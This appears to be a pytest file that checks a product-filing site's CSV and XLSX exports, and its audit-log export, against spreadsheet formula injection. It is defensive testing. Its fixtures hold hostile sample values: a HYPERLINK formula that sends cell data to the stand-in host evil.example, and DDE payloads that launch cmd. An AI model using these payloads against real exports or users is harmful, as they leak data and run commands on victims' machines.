"""Exported spreadsheets never carry a formula (CSV/formula injection): a unit that names its
product =HYPERLINK(…) or gives a revocation reason starting with = + - @ gets text in the
public search export (CSV and XLSX) and in the back office's 审计日志 export, prefixed with a
single quote as OWASP advises; read back, every such cell is a string."""

import csv
import io

import openpyxl
import pytest
from test_search import file_product  # noqa: F401 - the fixture

import workflows

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")'
HOSTILE = {
    "name": HYPERLINK,
    "model": "+cmd|' /C calc'!A0",
    "trademark": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def csv_rows(resp):
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))


def test_a_product_named_like_a_formula_is_text_in_the_csv_export(client, file_product):  # noqa: F811
    file_product(**HOSTILE)
    header, row = csv_rows(client.get("/search/export.csv"))
    cells = dict(zip(header, row))
    assert cells["产品名称"] == "'" + HYPERLINK
    assert cells["规格型号"] == "'" + HOSTILE["model"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_a_product_named_like_a_formula_is_a_string_cell_in_the_xlsx_export(client, file_product):  # noqa: F811
    file_product(**HOSTILE)
    resp = client.get("/search/export.xlsx")
    assert resp.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(resp.data)).active
    name, model = sheet["A2"], sheet["B2"]
    assert (name.data_type, name.value) == ("s", "'" + HYPERLINK)  # a string, not a formula ('f')
    assert (model.data_type, model.value) == ("s", "'" + HOSTILE["model"])
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(client, file_product, start):  # noqa: F811
    file_product(model=start + "1+1")
    header, row = csv_rows(client.get("/search/export.csv"))
    assert dict(zip(header, row))["规格型号"] == "'" + start + "1+1"


def test_ordinary_text_is_exported_unchanged(client, file_product):  # noqa: F811
    product = file_product(name="动力电池管理系统", model="BMS-2000 (A+B)")
    header, row = csv_rows(client.get("/search/export.csv"))
    cells = dict(zip(header, row))
    assert cells["产品名称"] == "动力电池管理系统" and cells["规格型号"] == "BMS-2000 (A+B)"
    assert cells["备案号"] == product.filing_number


def test_a_revocation_reason_like_a_formula_is_text_in_the_audit_log_export(client, make, login, file_product):  # noqa: F811
    product = file_product(name="动力电池管理系统")
    workflows.apply(product, "request_revocation", product.unit.user, reason=HYPERLINK)  # the unit's own words
    login(make.staff("admin"))
    rows = csv_rows(client.get("/admin/audit/export/csv/"))
    header = rows[0]
    reasons = [dict(zip(header, row))["理由"] for row in rows[1:]]
    assert "'" + HYPERLINK in reasons
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
